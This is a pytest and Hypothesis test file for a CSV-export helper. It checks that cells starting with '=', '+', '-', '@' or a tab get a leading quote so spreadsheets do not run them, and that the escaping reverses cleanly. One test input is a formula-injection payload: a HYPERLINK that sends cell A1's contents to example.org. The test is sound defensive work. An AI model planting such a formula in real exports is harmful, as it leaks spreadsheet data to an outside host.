"""CSV cells a spreadsheet would run as a formula get a ' in front, and read back as they were."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from arena_site.spreadsheet import read_cell, safe_cell


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("https://example.org/?"&A1, "click")', '\'=HYPERLINK("https://example.org/?"&A1, "click")'),
        ("+1+2", "'+1+2"),
        ("-2-3", "'-2-3"),  # Excel computes -5
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("'=1+1", "''=1+1"),  # already quoted by someone: still reads back as typed
        ("-3.5", "-3.5"),  # numbers stay numbers
        ("+7", "+7"),
        ("-1e-05", "-1e-05"),
        ("Cobbler/3", "Cobbler/3"),
        ("it's =fine", "it's =fine"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_in_front(text, written):
    assert safe_cell(text) == written


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r1.eE ax"), max_size=8) | st.text(max_size=20))
def test_every_cell_reads_back_as_it_was(text):
    assert read_cell(safe_cell(text)) == text
